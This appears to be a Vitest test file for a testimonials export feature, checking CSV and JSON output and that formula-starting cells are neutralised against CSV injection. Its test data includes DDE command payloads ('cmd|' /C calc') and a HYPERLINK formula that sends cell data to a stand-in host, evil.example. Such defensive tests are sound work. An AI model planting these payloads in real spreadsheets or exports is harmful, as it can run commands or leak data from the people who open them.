import { describe, expect, it } from "vitest";
import {
  EXPORT_COLUMNS,
  csvCell,
  exportFileName,
  neutralizeCell,
  toCsv,
  toJson,
  type ExportRecord,
  unneutralizeCell,
} from "@/features/testimonials/import";
import { parseCsv } from "../../../support/node/csv";

const record = (extra: Partial<ExportRecord> = {}): ExportRecord => ({
  id: "t1",
  name: "Ada Obi",
  role: "Chef",
  company: "",
  email: "ada@example.com",
  message: "Great food.",
  imageUrl: "",
  status: "approved",
  consentAt: "2026-11-01T10:00:00.000Z",
  submittedAt: "2026-11-01T10:00:00.000Z",
  decidedAt: "2026-11-02T09:00:00.000Z",
  featured: true,
  areas: [],
  highlight: "",
  source: "",
  sourceUrl: "",
  originalDate: "",
  unpublishedAt: "",
  ...extra,
});

describe("CSV injection (OWASP): cells that could start a formula are neutralised", () => {
  const payloads = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
  ];
  // A leading NUL (some spreadsheets skip it) and the full-width ＝ ＋ － ＠ (some read them as
  // their ASCII twins): each could start a formula too.
  const unusual = [
    "\0=1+1",
    "＝1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1+1",
    "－2+3",
    "＠SUM(1)",
  ];

  it("prefixes each payload with a single quote", () => {
    for (const payload of payloads) expect(neutralizeCell(payload)).toBe(`'${payload}`);
  });

  it("prefixes a leading NUL and a full-width ＝ ＋ － ＠ too, and the import takes it away again", () => {
    for (const payload of unusual) {
      expect(neutralizeCell(payload), JSON.stringify(payload)).toBe(`'${payload}`);
      expect(unneutralizeCell(neutralizeCell(payload))).toBe(payload);
      expect(unneutralizeCell(neutralizeCell(`'${payload}`))).toBe(`'${payload}`);
    }
    expect(neutralizeCell("a＝b")).toBe("a＝b");
  });

  it("leaves ordinary text alone, even with = or @ inside", () => {
    for (const text of ["Ada Obi", "a=b", "ada@example.com", "5 stars", "", "'quoted"])
      expect(neutralizeCell(text)).toBe(text);
  });

  it("a value that already begins with a quote before a formula gets one more", () => {
    // So the import, which takes exactly one away, gives back "'=1+1" and not "=1+1".
    expect(neutralizeCell("'=1+1")).toBe("''=1+1");
    expect(neutralizeCell("''-2")).toBe("'''-2");
  });

  it("quotes every cell and doubles its quotes", () => {
    expect(csvCell('She said "wow", twice')).toBe('"She said ""wow"", twice"');
    expect(csvCell(true)).toBe('"true"');
  });

  it("a whole file: every payload comes back as text, commas, quotes and lines intact", () => {
    const records = payloads.map((payload, i) =>
      record({ id: `p${i}`, name: payload, message: `${payload}\nsecond line, "quoted"` }),
    );
    const csv = toCsv(records);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual([...EXPORT_COLUMNS]);
    expect(rows).toHaveLength(payloads.length + 1);
    rows.slice(1).forEach((row, i) => {
      expect(row[1]).toBe(`'${payloads[i]}`);
      expect(row[5]).toBe(`'${payloads[i]}\nsecond line, "quoted"`);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });
  });
});

describe("the export files", () => {
  it("CSV: the header, then one row per record in the columns' order", () => {
    const rows = parseCsv(toCsv([record()]).slice(1));
    expect(rows).toEqual([
      [...EXPORT_COLUMNS],
      [
        "t1",
        "Ada Obi",
        "Chef",
        "",
        "ada@example.com",
        "Great food.",
        "",
        "approved",
        "2026-11-01T10:00:00.000Z",
        "2026-11-01T10:00:00.000Z",
        "2026-11-02T09:00:00.000Z",
        "true",
        "",
        "",
        "",
        "",
        "",
        "",
      ],
    ]);
  });

  it("CSV: praise from elsewhere with its areas (joined by |), source, link and date", () => {
    const rows = parseCsv(
      toCsv([
        record({
          email: "",
          consentAt: "",
          areas: ["software", "training"],
          highlight: "even better",
          source: "linkedin",
          sourceUrl: "https://www.linkedin.com/in/ada",
          originalDate: "2025-06-01T00:00:00.000Z",
        }),
      ]).slice(1),
    );
    const row = Object.fromEntries(EXPORT_COLUMNS.map((key, i) => [key, rows[1]![i]]));
    expect(row).toMatchObject({
      email: "",
      consentAt: "",
      areas: "software|training",
      highlight: "even better",
      source: "linkedin",
      sourceUrl: "https://www.linkedin.com/in/ada",
      originalDate: "2025-06-01T00:00:00.000Z",
      unpublishedAt: "",
    });
  });

  it("JSON: the records as they are", () => {
    const records = [
      record(),
      record({ id: "t2", status: "pending", featured: false, areas: ["culinary"] }),
    ];
    expect(JSON.parse(toJson(records))).toEqual(records);
  });

  it("names the file with the day and the count", () => {
    const day = new Date("2026-11-24T23:00:00Z");
    expect(exportFileName("csv", 37, day)).toBe("testimonials-2026-11-24-37-records.csv");
    expect(exportFileName("json", 0, day)).toBe("testimonials-2026-11-24-0-records.json");
  });
});
